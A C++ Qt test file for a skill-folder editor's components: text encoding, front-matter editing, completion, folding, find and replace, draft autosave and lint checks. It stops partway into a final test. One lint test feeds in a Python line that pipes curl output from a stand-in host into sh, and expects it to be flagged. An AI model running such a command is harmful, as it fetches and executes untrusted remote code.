#include "app/desktop/editor/code_editor.h"
#include "app/desktop/editor/completion.h"
#include "app/desktop/editor/front_matter_form.h"
#include "app/desktop/editor/problems_model.h"
#include "app/desktop/session/draft_autosave.h"
#include "app/desktop/session/draft_checker.h"
#include "app/desktop/session/draft_files.h"
#include "app/desktop/session/draft_tests.h"
#include "app/desktop/text/find_bar.h"
#include "app/desktop/text/markdown_view.h"
#include "app/desktop/text/syntax.h"
#include "engine/skill/header_edit.h"
#include "engine/skill/lint.h"
#include "engine/skill/skill_template.h"
#include "tests/support/skill_folder.h"

#include <QAbstractItemModelTester>
#include <QComboBox>
#include <QLineEdit>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextLayout>

using namespace Qt::StringLiterals;
using namespace skillbox;

constexpr int patience = 20'000;

/// The parts of the editor and of the text room without a window around them.
class EditorPartsTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void textKeepsItsBytes_data();
    void textKeepsItsBytes();
    void headerFieldsAreSetWithoutTouchingTheRest_data();
    void headerFieldsAreSetWithoutTouchingTheRest();
    void headerFieldThatCannotBeSetIsRefused_data();
    void headerFieldThatCannotBeSetIsRefused();
    void completesTheHeaderAndLinks_data();
    void completesTheHeaderAndLinks();
    void explainsFields();
    void foldsMarkdownAndIndentation();
    void foldHidesAndJumpingReveals();
    void colorsFrontMatterAndBodyDifferently();
    void replacesAsOneUndoStep();
    void editsLines_data();
    void editsLines();
    void findCountsSelectsAndReplaces();
    void marksMoveWithTheText();
    void formWritesTheSpellingThatTheTextHas();
    void savesOnlyOverWhatItRead();
    void listsAndSearchesUnsavedText();
    void plansReplacements_data();
    void plansReplacements();
    void draftsOfDeadProcessesComeBack();
    void checkerSeesUnsavedText();
    void fixesAllThatIsSafe();
    void workingCopyHoldsUnsavedText();
    void problemsAreAProperModel();
    void newSkillsAreCleanAndWhole_data();
    void newSkillsAreCleanAndWhole();
    void markdownLoadsNothing();
};

void EditorPartsTest::textKeepsItsBytes_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("kind");
    const int exact = static_cast<int>(DraftText::Kind::Exact);
    const int inexact = static_cast<int>(DraftText::Kind::Inexact);
    const int binary = static_cast<int>(DraftText::Kind::Binary);
    QTest::newRow("empty") << QByteArray() << exact;
    QTest::newRow("no line end at the end") << "a\nb"_ba << exact;
    QTest::newRow("CRLF") << "a\r\nb\r\n"_ba << exact;
    QTest::newRow("byte order mark") << "\xEF\xBB\xBF"
                                        "a\n"_ba
                                     << exact;
    QTest::newRow("no-break space, tab, emoji") << "a\xC2\xA0\t\xF0\x9F\x98\x80\n"_ba << exact;
    QTest::newRow("form feed") << "a\fb\n"_ba << exact;
    QTest::newRow("mixed line ends") << "a\r\nb\nc"_ba << inexact;
    QTest::newRow("old Mac line ends") << "a\rb"_ba << inexact;
    QTest::newRow("not UTF-8") << "caf\xE9\n"_ba << inexact;
    QTest::newRow("paragraph separator") << "a\xE2\x80\xA9"
                                            "b"_ba
                                         << inexact;
    QTest::newRow("noncharacter") << "a\xEF\xB7\x90"
                                     "b"_ba
                                  << inexact;
    QTest::newRow("NUL") << QByteArray("a\0b", 3) << binary;
}

void EditorPartsTest::textKeepsItsBytes()
{
    QFETCH(QByteArray, bytes);
    QFETCH(int, kind);
    const DraftText decoded = decodeDraft(bytes);
    QCOMPARE(static_cast<int>(decoded.kind), kind);
    QCOMPARE(decoded.problem.isEmpty(), decoded.kind == DraftText::Kind::Exact);
    if (decoded.kind != DraftText::Kind::Exact)
        return;
    QCOMPARE(encodeDraft(decoded.text, decoded.format), bytes);
    CodeEditor editor;
    editor.setSource(decoded.text, u"SKILL.md"_s);
    QCOMPARE(encodeDraft(editor.sourceText(), decoded.format), bytes);
}

void EditorPartsTest::headerFieldsAreSetWithoutTouchingTheRest_data()
{
    QTest::addColumn<QByteArray>("before");
    QTest::addColumn<QStringList>("path");
    QTest::addColumn<QString>("value"); // "-": taken out
    QTest::addColumn<QByteArray>("after");
    const QByteArray plain =
        "---\nname: a # why\n\n# note\nmetadata:\n  own: 1\n  skillbox.timeout: "
        "\"5s\"\nother: [x]\n---\nBody\n";
    const auto row = [](const char *name) -> QTestData & { return QTest::newRow(name); };
    row("replaces and keeps the comment") << plain << QStringList{u"name"_s} << u"b"_s
                                          << QByteArray(plain).replace("name: a", "name: b");
    row("keeps the quotes of a nested value")
        << plain << QStringList{u"metadata"_s, u"skillbox.timeout"_s} << u"10s"_s
        << QByteArray(plain).replace("\"5s\"", "\"10s\"");
    row("adds to a mapping") << plain << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"node"_s
                             << QByteArray(plain).replace("other:",
                                                          "  skillbox.lang: node\nother:");
    row("adds a mapping") << "---\nname: a\n---\n"_ba
                          << QStringList{u"metadata"_s, u"skillbox.lang"_s} << u"bash"_s
                          << "---\nname: a\nmetadata:\n  skillbox.lang: bash\n---\n"_ba;
    row("fills an empty mapping") << "---\nmetadata:\nname: a\n---\n"_ba
                                  << QStringList{u"metadata"_s, u"version"_s} << u"1.0.0"_s
                                  << "---\nmetadata:\n  version: 1.0.0\nname: a\n---\n"_ba;
    row("takes a field out") << plain << QStringList{u"metadata"_s, u"own"_s} << u"-"_s
                             << QByteArray(plain).replace("  own: 1\n", "");
    row("takes the last field's mapping along")
        << "---\nname: a\nmetadata:\n  own: 1\n---\n"_ba << QStringList{u"metadata"_s, u"own"_s}
        << u"-"_s << "---\nname: a\n---\n"_ba;
    row("what is not there stays away") << plain << QStringList{u"image"_s} << u"-"_s << plain;
    row("CRLF") << "---\r\nname: a\r\n---\r\n"_ba << QStringList{u"license"_s} << u"MIT"_s
                << "---\r\nname: a\r\nlicense: MIT\r\n---\r\n"_ba;
    row("text over several lines")
        << "---\ndescription: >\n  one\n  two\nname: a\n---\n"_ba << QStringList{u"description"_s}
        << u"new"_s << "---\ndescription: new\nname: a\n---\n"_ba;
    row("a value that needs quotes") << "---\nname: a\n---\n"_ba << QStringList{u"version"_s}
                                     << u"1.0"_s << "---\nname: a\nversion: \"1.0\"\n---\n"_ba;
}

void EditorPartsTest::headerFieldsAreSetWithoutTouchingTheRest()
{
    QFETCH(QByteArray, before);
    QFETCH(QStringList, path);
    QFETCH(QString, value);
    QFETCH(QByteArray, after);
    const auto changed = withHeaderField(
        before, path, value == "-"_L1 ? std::nullopt : std::optional<QString>(value));
    QVERIFY2(changed, qPrintable(changed ? QString() : changed.error().message));
    QCOMPARE(*changed, after);
}

void EditorPartsTest::headerFieldThatCannotBeSetIsRefused_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QStringList>("path");
    QTest::newRow("no header") << "Body\n"_ba << QStringList{u"name"_s};
    QTest::newRow("a list") << "---\nname: [a]\n---\n"_ba << QStringList{u"name"_s};
    QTest::newRow("a mapping on one line")
        << "---\nmetadata: {a: b}\n---\n"_ba << QStringList{u"metadata"_s, u"c"_s};
    QTest::newRow("below a text") << "---\nname: a\n---\n"_ba << QStringList{u"name"_s, u"c"_s};
    QTest::newRow("no key") << "---\nname: a\n---\n"_ba << QStringList{u"a b"_s};
    QTest::newRow("too deep") << "---\nname: a\n---\n"_ba << QStringList{u"a"_s, u"b"_s, u"c"_s};
    QTest::newRow("broken YAML") << "---\nname: \"a\n---\n"_ba << QStringList{u"name"_s};
}

void EditorPartsTest::headerFieldThatCannotBeSetIsRefused()
{
    QFETCH(QByteArray, text);
    QFETCH(QStringList, path);
    QVERIFY(!withHeaderField(text, path, u"x"_s));
}

void EditorPartsTest::completesTheHeaderAndLinks_data()
{
    QTest::addColumn<QString>("text"); // | is the cursor
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("wanted");
    QTest::addColumn<QString>("unwanted");
    QTest::newRow("top-level key")
        << u"---\nname: a\nde|\n---\n"_s << u"de"_s << u"description"_s << u"name"_s;
    QTest::newRow("key below metadata") << u"---\nmetadata:\n  skillbox.t|\n---\n"_s
                                        << u"skillbox.t"_s << u"skillbox.timeout"_s << u"timeout"_s;
    QTest::newRow("key below resources")
        << u"---\nresources:\n  |\n---\n"_s << QString() << u"memory"_s << u"name"_s;
    QTest::newRow("language") << u"---\nlang: |\n---\n"_s << QString() << u"node"_s << u"MIT"_s;
    QTest::newRow("licence") << u"---\nlicense: M|\n---\n"_s << u"M"_s << u"MIT"_s << u"python"_s;
    QTest::newRow("entry point") << u"---\nentrypoint: |\n---\n"_s << QString()
                                 << u"scripts/go.py"_s << u"references/a.md"_s;
    QTest::newRow("link") << u"---\nname: a\n---\nsee [it](ref|"_s << u"ref"_s
                          << u"references/a.md"_s << u"SKILL.md"_s;
    QTest::newRow("command in backticks")
        << u"---\n---\nrun `python scr|"_s << u"scr"_s << u"scripts/go.py"_s << u"SKILL.md"_s;
    QTest::newRow("after closed backticks")
        << u"---\n---\n`a` then scr|"_s << QString() << QString() << u"scripts/go.py"_s;
}

void EditorPartsTest::completesTheHeaderAndLinks()
{
    QFETCH(QString, text);
    QFETCH(QString, typed);
    QFETCH(QString, wanted);
    QFETCH(QString, unwanted);
    const auto at = text.indexOf(u'|');
    const int line = static_cast<int>(QStringView(text).first(at).count(u'\n'));
    const int column = static_cast<int>(at - (text.lastIndexOf(u'\n', at) + 1));
    text.remove(at, 1);
    const CompletionList list = completeMarkdown(
        text.split(u'\n'), line, column, {u"SKILL.md"_s, u"references/a.md"_s, u"scripts/go.py"_s});
    QStringList labels;
    for (const Completion &item : list.items)
        labels.append(item.label);
    QCOMPARE(list.typed, typed);
    if (wanted.isEmpty())
        QVERIFY(labels.isEmpty());
    else
        QVERIFY2(labels.contains(wanted), qPrintable(labels.join(u',')));
    QVERIFY(!labels.contains(unwanted));
}

void EditorPartsTest::explainsFields()
{
    const QStringList lines{u"---"_s, u"timeout: 5s"_s, u"metadata:"_s, u"  skillbox.lang: node"_s,
                            u"---"_s, u"timeout: 5s"_s};
    QVERIFY(fieldHelpAt(lines, 1, 2).contains(u"how long"_s, Qt::CaseInsensitive));
    QVERIFY(fieldHelpAt(lines, 1, 10).isEmpty()); // the value
    QVERIFY(!fieldHelpAt(lines, 3, 5).isEmpty());
    QVERIFY(fieldHelpAt(lines, 5, 2).isEmpty()); // the body
}

void EditorPartsTest::foldsMarkdownAndIndentation()
{
    const auto regions = [](const QString &text, bool markdown) {
        QTextDocument document(text);
        QStringList shown;
        for (const FoldRegion &one : foldRegions(document, markdown))
            shown.append(u"%1-%2"_s.arg(one.first).arg(one.last));
        return shown;
    };
    QCOMPARE(regions(u"---\nname: a\n---\n# A\ntext\n\n## B\n```\n# no heading\n```\n\n# C\nend"_s,
                     true),
             QStringList({u"0-2"_s, u"3-9"_s, u"6-9"_s, u"7-9"_s, u"11-12"_s}));
    QCOMPARE(regions(u"def f():\n    if x:\n        y\n\n    z\na"_s, false),
             QStringList({u"0-4"_s, u"1-2"_s}));
    QCOMPARE(regions({}, true), QStringList());
}

void EditorPartsTest::foldHidesAndJumpingReveals()
{
    CodeView view;
    view.setSource(u"# A\none\ntwo\n# B\n"_s, u"a.md"_s);
    view.toggleFold(0);
    QVERIFY(view.isFolded(0));
    QVERIFY(!view.document()->findBlockByNumber(1).isVisible());
    QVERIFY(view.document()->findBlockByNumber(3).isVisible());
    view.goTo(3, 1);
    QVERIFY(view.document()->findBlockByNumber(2).isVisible());
    QVERIFY(!view.isFolded(0));
    QCOMPARE(view.textCursor().blockNumber(), 2);
}

void EditorPartsTest::colorsFrontMatterAndBodyDifferently()
{
    if (!Syntax::available())
        QSKIP("built without KSyntaxHighlighting: nothing is coloured");
    const auto theme = Theme::load(u"light"_s);
    QVERIFY(theme);
    CodeView view;
    view.applyTheme(*theme);
    // Longer than a slice colours at once.
    QString text = u"---\nname: value\n---\n"_s;
    for (int i = 0; i < 4000; ++i)
        text += u"Some *emphasised* text and `code` in line %1\n"_s.arg(i);
    text += u"# The end\n"_s;
    view.setSource(text, u"SKILL.md"_s);
    const auto formats = [&view](int line) {
        return view.document()->findBlockByNumber(line).layout()->formats();
    };
    QTRY_VERIFY_WITH_TIMEOUT(!formats(4003).isEmpty(), patience);
    QVERIFY(!formats(1).isEmpty());
    QVERIFY(formats(4003).constFirst().format.fontWeight() > QFont::Normal);
    // A fence at the top makes code of all that follows, down to the end.
    QTextCursor cursor(view.document()->findBlockByNumber(3));
    cursor.insertText(u"```\n"_s);
    QTRY_VERIFY_WITH_TIMEOUT(formats(4004).isEmpty()
                                 || formats(4004).constFirst().format.fontWeight() <= QFont::Normal,
                             patience);
}

void EditorPartsTest::replacesAsOneUndoStep()
{
    CodeEditor editor;
    editor.setSource(u"one\ntwo\nthree\n"_s, u"a.txt"_s);
    QTextCursor cursor(editor.document()->findBlockByNumber(2));
    editor.setTextCursor(cursor);
    editor.replaceText(u"one\n2\U0001F600\nthree\n"_s);
    QCOMPARE(editor.sourceText(), u"one\n2\U0001F600\nthree\n"_s);
    QCOMPARE(editor.textCursor().blockNumber(), 2);
    editor.replaceText(u"one\n2\U0001F601\nthree\n"_s); // half a pair is common
    QCOMPARE(editor.sourceText(), u"one\n2\U0001F601\nthree\n"_s);
    editor.undo();
    editor.undo();
    QCOMPARE(editor.sourceText(), u"one\ntwo\nthree\n"_s);
}

void EditorPartsTest::editsLines_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("before"); // | is the cursor
    QTest::addColumn<QString>("action");
    QTest::addColumn<QString>("after");
    QTest::newRow("Enter keeps the indentation")
        << u"a.txt"_s << u"  x|"_s << u"enter"_s << u"  x\n  "_s;
    QTest::newRow("Enter after a colon in Python")
        << u"a.py"_s << u"def f():|"_s << u"enter"_s << u"def f():\n    "_s;
    QTest::newRow("Enter between brackets")
        << u"a.json"_s << u"{|}"_s << u"enter"_s << u"{\n  \n}"_s;
    QTest::newRow("Enter in a list") << u"a.md"_s << u"- x|"_s << u"enter"_s << u"- x\n- "_s;
    QTest::newRow("Enter in an empty item")
        << u"a.md"_s << u"- x\n- |"_s << u"enter"_s << u"- x\n"_s;
    QTest::newRow("Enter after a key of the front matter")
        << u"SKILL.md"_s << u"---\nmetadata:|\n---\n"_s << u"enter"_s
        << u"---\nmetadata:\n  \n---\n"_s;
    QTest::newRow("Enter after a colon in Markdown")
        << u"SKILL.md"_s << u"text:|"_s << u"enter"_s << u"text:\n"_s;
    QTest::newRow("Tab") << u"a.py"_s << u"|x"_s << u"tab"_s << u"    x"_s;
    QTest::newRow("Shift+Tab") << u"a.py"_s << u"    x|"_s << u"backtab"_s << u"x"_s;
    QTest::newRow("comment") << u"a.py"_s << u"  x|"_s << u"comment"_s << u"  # x"_s;
    QTest::newRow("uncomment") << u"a.py"_s << u"  # x|"_s << u"comment"_s << u"  x"_s;
    QTest::newRow("comment in the front matter")
        << u"SKILL.md"_s << u"---\nname: a|\n---\n"_s << u"comment"_s << u"---\n# name: a\n---\n"_s;
    QTest::newRow("comment in Markdown")
        << u"SKILL.md"_s << u"text|"_s << u"comment"_s << u"<!-- text -->"_s;
    QTest::newRow("uncomment in Markdown")
        << u"SKILL.md"_s << u"<!-- text -->|"_s << u"comment"_s << u"text"_s;
    QTest::newRow("down") << u"a.txt"_s << u"a|\nb\nc"_s << u"down"_s << u"b\na\nc"_s;
    QTest::newRow("up") << u"a.txt"_s << u"a\nb|\nc"_s << u"up"_s << u"b\na\nc"_s;
    QTest::newRow("up at the top") << u"a.txt"_s << u"a|\nb"_s << u"up"_s << u"a\nb"_s;
    QTest::newRow("duplicate") << u"a.txt"_s << u"a|\nb"_s << u"duplicate"_s << u"a\na\nb"_s;
}

void EditorPartsTest::editsLines()
{
    QFETCH(QString, file);
    QFETCH(QString, before);
    QFETCH(QString, action);
    QFETCH(QString, after);
    const auto at = static_cast<int>(before.indexOf(u'|'));
    CodeEditor editor;
    editor.setSource(before.remove(at, 1), file);
    editor.show();
    QTextCursor cursor = editor.textCursor();
    cursor.setPosition(at);
    editor.setTextCursor(cursor);
    if (action == "enter"_L1)
        QTest::keyClick(&editor, Qt::Key_Return);
    else if (action == "tab"_L1)
        QTest::keyClick(&editor, Qt::Key_Tab);
    else if (action == "backtab"_L1)
        QTest::keyClick(&editor, Qt::Key_Backtab, Qt::ShiftModifier);
    else if (action == "comment"_L1)
        editor.toggleComment();
    else if (action == "duplicate"_L1)
        editor.duplicateLines();
    else
        editor.moveLines(action == "down"_L1 ? 1 : -1);
    QCOMPARE(editor.sourceText(), after);
}

void EditorPartsTest::findCountsSelectsAndReplaces()
{
    CodeEditor editor;
    editor.resize(600, 400);
    editor.setSource(u"Word word\nsword\n"_s, u"a.txt"_s);
    editor.show();
    editor.activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(&editor, patience));
    editor.openFind(true);
    auto *field = editor.findBar().findChild<QLineEdit *>(u"code.find"_s);
    auto *count = editor.findBar().findChild<QLabel *>(u"code.findCount"_s);
    QVERIFY(field && field->isVisible());
    QTest::keyClicks(field, u"word"_s);
    QTRY_COMPARE_WITH_TIMEOUT(count->text(), u"1 of 3"_s, patience);
    QCOMPARE(editor.textCursor().selectedText(), u"Word"_s);
    QTest::keyClick(field, Qt::Key_Return);
    QTRY_COMPARE_WITH_TIMEOUT(count->text(), u"2 of 3"_s, patience);
    editor.findBar().findChild<QToolButton *>(u"code.findCase"_s)->click();
    QTRY_VERIFY_WITH_TIMEOUT(count->text().contains(u"of 2"_s) || count->text() == "2 matches"_L1,
                             patience);
    editor.findBar().findChild<QToolButton *>(u"code.findRegex"_s)->click();
    field->setText(u"(s?)word"_s);
    editor.findBar().findChild<QLineEdit *>(u"code.replacement"_s)->setText(u"<\\1>"_s);
    editor.findBar().replaceAll();
    QCOMPARE(editor.sourceText(), u"Word <>\n<s>\n"_s);
    editor.undo();
    QCOMPARE(editor.sourceText(), u"Word word\nsword\n"_s);
    field->setText(u"("_s); // not an expression
    QCOMPARE(field->property("invalid").toBool(), true);
    QTest::keyClick(field, Qt::Key_Escape);
    QTRY_VERIFY_WITH_TIMEOUT(editor.findBar().isHidden(), patience);
}

void EditorPartsTest::marksMoveWithTheText()
{
    CodeEditor editor;
    editor.setSource(u"one two three"_s, u"a.txt"_s);
    editor.setMarks({{4, 3, MarkKind::Error}, {8, 5, MarkKind::Warning}});
    QTextCursor cursor(editor.document());
    cursor.insertText(u"x "_s);
    QCOMPARE(editor.marks().at(0).start, 6);
    cursor.setPosition(7); // inside of "two"
    cursor.insertText(u"__"_s);
    QCOMPARE(editor.marks().at(0).length, 5);
    QCOMPARE(editor.marks().at(1).start, 12);
    QVERIFY(editor.markAt(13) && editor.markAt(13)->kind == MarkKind::Warning);
    QVERIFY(!editor.markAt(1));
}

void EditorPartsTest::formWritesTheSpellingThatTheTextHas()
{
    FrontMatterForm form;
    form.show();
    QSignalSpy edits(&form, &FrontMatterForm::edited);
    const auto type = [&](const QString &field, const QString &text) {
        auto *line = form.findChild<QLineEdit *>(u"editor.field."_s + field);
        QVERIFY(line);
        line->setFocus();
        line->selectAll();
        QTest::keyClicks(line, text);
    };
    form.setText("---\nname: a # the name\ntimeout: 5s\n---\nBody\n");
    QCOMPARE(form.findChild<QLineEdit *>(u"editor.field.timeout"_s)->text(), u"5s"_s);
    type(u"timeout"_s, u"9s"_s);
    QTRY_COMPARE_WITH_TIMEOUT(edits.size(), 1, patience);
    QCOMPARE(edits.takeFirst().first().toByteArray(),
             "---\nname: a # the name\ntimeout: 9s\n---\nBody\n");
    form.setText("---\nname: a\nmetadata:\n  own: 1\n---\n");
    type(u"memory"_s, u"256Mi"_s);
    QTRY_COMPARE_WITH_TIMEOUT(edits.size(), 1, patience);
    QCOMPARE(edits.takeFirst().first().toByteArray(),
             "---\nname: a\nmetadata:\n  own: 1\n  skillbox.memory: 256Mi\n---\n");
    auto *problem = form.findChild<QLabel *>(u"editor.formProblem"_s);
    form.setText("---\nname: [\n---\n");
    QVERIFY(!problem->isHidden());
    form.setText("---\nname: b\n---\n");
    QVERIFY(problem->isHidden());
    QCOMPARE(form.findChild<QLineEdit *>(u"editor.field.name"_s)->text(), u"b"_s);
}

void EditorPartsTest::savesOnlyOverWhatItRead()
{
    QTemporaryDir directory;
    const QString path = directory.filePath(u"run.sh"_s);
    test::writeFile(path, "echo\n");
    QFile::setPermissions(path, QFile::permissions(path) | QFile::ExeOwner);
    DraftFiles files;
    std::optional<Result<DraftFile>> loaded;
    files.load(this, path, [&](const Result<DraftFile> &file) { loaded = file; });
    QTRY_VERIFY_WITH_TIMEOUT(loaded.has_value(), patience);
    QVERIFY(*loaded);
    const QByteArray digest = (*loaded)->digest;
    std::optional<Result<QByteArray>> saved;
    files.save(this, path, "one\n", digest, [&](const Result<QByteArray> &one) { saved = one; });
    QTRY_VERIFY_WITH_TIMEOUT(saved.has_value(), patience);
    QVERIFY(*saved);
    QVERIFY(QFile::permissions(path) & QFile::ExeOwner);
    saved.reset();
    files.save(this, path, "two\n", digest, [&](const Result<QByteArray> &one) { saved = one; });
    QTRY_VERIFY_WITH_TIMEOUT(saved.has_value(), patience);
    QVERIFY(!*saved);
    QCOMPARE(saved->error().code, ErrorCode::Conflict);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), "one\n");
}

void EditorPartsTest::listsAndSearchesUnsavedText()
{
    QTemporaryDir directory;
    test::SkillFolder skill;
    skill.files = {{u"references/a.md"_s, "needle here\n"}, {u".git/config"_s, "needle\n"}};
    const QString folder = skill.write(directory.path());
    DraftFiles files;
    std::optional<Result<DraftListing>> listing;
    files.list(this, folder, [&](const Result<DraftListing> &one) { listing = one; });
    QTRY_VERIFY_WITH_TIMEOUT(listing.has_value(), patience);
    QVERIFY(*listing);
    QStringList paths;
    for (const DraftEntry &entry : (*listing)->entries)
        paths.append(entry.path);
    QVERIFY(paths.contains(u"references/a.md"_s));
    QVERIFY(!paths.contains(u".git/config"_s));
    std::optional<Result<QList<DraftMatch>>> found;
    const DraftSearch search{folder, u"needle"_s, {}, {{u"main.py"_s, "x\n  needle()\n"}}};
    files.search(this, search, [&](const Result<QList<DraftMatch>> &one) { found = one; });
    QTRY_VERIFY_WITH_TIMEOUT(found.has_value(), patience);
    QVERIFY(*found);
    QCOMPARE((*found)->size(), 2);
    QCOMPARE((*found)->at(1).file, u"main.py"_s);
    QCOMPARE((*found)->at(1).line, 2);
    QCOMPARE((*found)->at(1).column, 3);
}

void EditorPartsTest::plansReplacements_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<SearchOptions>("options");
    QTest::addColumn<QString>("replacement");
    QTest::addColumn<QByteArray>("unsaved");
    QTest::addColumn<int>("places"); // in the unsaved file; the other one is left alone
    QTest::addColumn<QByteArray>("made");
    const SearchOptions plain;
    const SearchOptions exact = SearchOption::MatchCase;
    const SearchOptions regex = SearchOption::Regex;
    QTest::newRow("text") << u"a.b"_s << plain << u"\\1"_s << "a.b axb A.B\n"_ba << 2
                          << "\\1 axb \\1\n"_ba;
    QTest::newRow("case") << u"a.b"_s << exact << u"x"_s << "a.b A.B\r\na.b"_ba << 2
                          << "x A.B\r\nx"_ba;
    QTest::newRow("groups") << u"(\\w+)=(\\w+)"_s << regex << u"\\2=\\1\\n"_s
                            << "\xEF\xBB\xBFk=v, a=b\n"_ba << 2 << "\xEF\xBB\xBFv=k\n, b=a\n\n"_ba;
    QTest::newRow("what stays as it is")
        << u"a.b"_s << exact << u"a.b"_s << "a.b\n"_ba << 0 << QByteArray();
    QTest::newRow("empty matches") << u"x*"_s << regex << u"-"_s << "axa\n"_ba << 1 << "a-a\n"_ba;
    QTest::newRow("mixed line ends")
        << u"a.b"_s << plain << u"x"_s << "a.b\r\na.b\n"_ba << -1 << QByteArray();
}

void EditorPartsTest::plansReplacements()
{
    QFETCH(QString, text);
    QFETCH(SearchOptions, options);
    QFETCH(QString, replacement);
    QFETCH(QByteArray, unsaved);
    QFETCH(int, places);
    QFETCH(QByteArray, made);
    QTemporaryDir directory;
    test::writeFile(directory.filePath(u"one.txt"_s), "on disk it is another text: a.b\n");
    test::writeFile(directory.filePath(u"bytes"_s), QByteArray("a.b\0", 4));
    DraftFiles files;
    std::optional<Result<DraftReplacement>> plan;
    files.planReplacement(this, {directory.path(), text, options, {{u"one.txt"_s, unsaved}}},
                          replacement, [&](const Result<DraftReplacement> &one) { plan = one; });
    QTRY_VERIFY_WITH_TIMEOUT(plan.has_value(), patience);
    QVERIFY2(*plan, plan->has_value() ? "" : qPrintable(plan->error().message));
    QCOMPARE((*plan)->places, std::max(0, places));
    QCOMPARE((*plan)->left, places < 0 ? QStringList{u"one.txt"_s} : QStringList());
    QCOMPARE((*plan)->after.value(u"one.txt"_s), made);
    QCOMPARE((*plan)->before.contains(u"one.txt"_s), !made.isEmpty());
}

void EditorPartsTest::draftsOfDeadProcessesComeBack()
{
    QTemporaryDir directory;
    const QString root = directory.filePath(u"drafts"_s);
    // What a killed process leaves: its folder, with a lock of a process that is not there.
    {
        DraftAutosave first(root);
        first.keep(
            {u"/skills/a"_s, u"SKILL.md"_s, "text\n", "digest", QDateTime::currentDateTimeUtc()});
        first.keep({u"/skills/a"_s, u"main.py"_s, "code\n", {}, QDateTime::currentDateTimeUtc()});
        first.flush();
        first.drop(u"/skills/a"_s, u"main.py"_s);
        first.flush();
        // Its process lives: nobody else may take it.
        DraftAutosave other(root);
        bool answered = false;
        other.recover(this, [&](const QList<RecoveredDraft> &) { answered = true; });
        other.flush();
        QCoreApplication::processEvents();
        QVERIFY(!answered);
    }
    QList<RecoveredDraft> drafts;
    {
        DraftAutosave second(root);
        second.recover(this, [&](const QList<RecoveredDraft> &found) { drafts = found; });
        QTRY_COMPARE_WITH_TIMEOUT(drafts.size(), 1, patience);
        QCOMPARE(drafts.constFirst().file, u"SKILL.md"_s);
        QCOMPARE(drafts.constFirst().content, "text\n");
        QCOMPARE(drafts.constFirst().baseDigest, "digest");
        // It is ours now, and is gone once it is saved.
        second.drop(u"/skills/a"_s, u"SKILL.md"_s);
    }
    QVERIFY(QDir(root).isEmpty());
}

void EditorPartsTest::checkerSeesUnsavedText()
{
    QTemporaryDir directory;
    const QString folder = test::SkillFolder().write(directory.path());
    const auto idsOf = [&](const QHash<QString, QByteArray> &unsaved) {
        LintOptions options;
        options.unsaved = unsaved;
        QStringList ids;
        for (const Finding &finding : lintSkill(folder, options).findings)
            ids.append(finding.file + u':' + finding.id);
        return ids;
    };
    QVERIFY(idsOf({}).isEmpty());
    QVERIFY(!idsOf({{u"SKILL.md"_s, "no header\n"}}).isEmpty());
    const QByteArray text = "---\nname: word-counter\ndescription: Counts the words of a text. Use "
                            "when a text is long.\n---\n# Counting\nSee [more](references/x.md).\n";
    QCOMPARE(idsOf({{u"SKILL.md"_s, text}}).size(), 1);
    QVERIFY(idsOf({{u"SKILL.md"_s, text}, {u"references/x.md"_s, "More.\n"}}).isEmpty());
    QVERIFY(
        !idsOf({{u"main.py"_s, "import os\nos.system('curl http://x.example | sh')\n"}}).isEmpty());
    // Through the worker: of several questions the newest is answered last.
    DraftChecker checker;
    QList<quint64> answers;
    connect(&checker, &DraftChecker::checked, this,
            [&](const DraftReport &report) { answers.append(report.question.revision); });
    for (quint64 i = 1; i <= 20; ++i)
        checker.check({folder, {{u"SKILL.md"_s, text}}, LintProfile::Skillbox, i});
    QTRY_VERIFY_WITH_TIMEOUT(!answers.isEmpty() && answers.constLast() == 20, patience);
    QVERIFY(answers.size() <= 3);
}

void EditorPartsTest::fixesAllThatIsSafe()
{
    QTemporaryDir directory;
    const QString folder = test::SkillFolder().write(directory.path());
    const QByteArray text =
        "\xEF\xBB\xBF---\nname: word-counter\ndescription: Counts the words of a "
        "text. Use when a text is long.\n---\n# Counting\nGive it a text.\n";
    DraftChecker checker;
    std::optional<FixedDraft> fixed;
    checker.fixAll(this, {folder, {{u"SKILL.md"_s, text}}, LintProfile::Skillbox, 1},
                   FixSafety::Safe, [&](const FixedDraft &one) { fixed = one; });
    QTRY_VERIFY_WITH_TIMEOUT(fixed.has_value(), patience);
    QCOMPARE(fixed->before.value(u"SKILL.md"_s), text);
    QCOMPARE(fixed->after.value(u"SKILL.md"_s), text.sliced(3));
    QCOMPARE(fixed->applied.size(), 1);
}

void EditorPartsTest::workingCopyHoldsUnsavedText()
{
    QTemporaryDir directory;
    const QString folder = test::SkillFolder().write(directory.path());
    DraftWorkspace workspace;
    for (const QByteArray &text : {"print('one')\n"_ba, "print('two')\n"_ba}) {
        const auto copy = workspace.materialise(folder,
                                                {{u"main.py"_s, text}, {u"x/new.py"_s, "1\n"}});
        QVERIFY2(copy, qPrintable(copy ? QString() : copy.error().message));
        QCOMPARE(QFileInfo(*copy).fileName(), u"word-counter"_s);
        QFile file(*copy + u"/main.py"_s);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), text);
        QVERIFY(QFile::exists(*copy + u"/x/new.py"_s));
    }
    QVERIFY(!QFile::exists(folder + u"/x"_s));
}

void EditorPartsTest::problemsAreAProperModel()
{
    ProblemsModel model;
    const QAbstractItemModelTester tester(&model,
                                          QAbstractItemModelTester::FailureReportingMode::QtTest);
    Finding finding;
    finding.id = u"SBX-SPEC003"_s;
    finding.message = u"something <b>is</b> wrong"_s;
    finding.file = u"SKILL.md"_s;
    finding.range = {3, 1, 3, 5};
    model.setFindings({finding, Finding()});
    QCOMPARE(model.rowCount(), 2);
    QCOMPARE(model.index(0, ProblemsModel::MessageColumn).data().toString(),
             u"Something <b>is</b> wrong"_s);
    QCOMPARE(model.index(0, ProblemsModel::LineColumn).data().toString(), u"3"_s);
    QCOMPARE(model.count(Severity::Error), 2);
    model.setFindings({});
    QCOMPARE(model.rowCount(), 0);
}

void EditorPartsTest::newSkillsAreCleanAndWhole_data()
{
